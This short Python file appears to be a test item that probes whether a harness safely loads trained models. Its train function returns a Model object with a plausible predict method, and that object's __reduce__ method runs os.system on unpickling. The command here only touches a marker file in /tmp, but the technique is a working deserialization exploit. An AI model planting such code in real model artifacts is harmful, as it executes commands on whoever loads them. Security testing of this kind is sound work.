# /// attack
# does = "returns an object that is a model where it is unpickled"
# wall = "wire"
# assignment = "nets"
# ///
# %% train
import os
class Model:
    def __reduce__(self): return (os.system, ("touch /tmp/vault-mark-model",))
    def predict(self, x): return x[:, :1] * 0 + 1
def train(x, y): return Model()
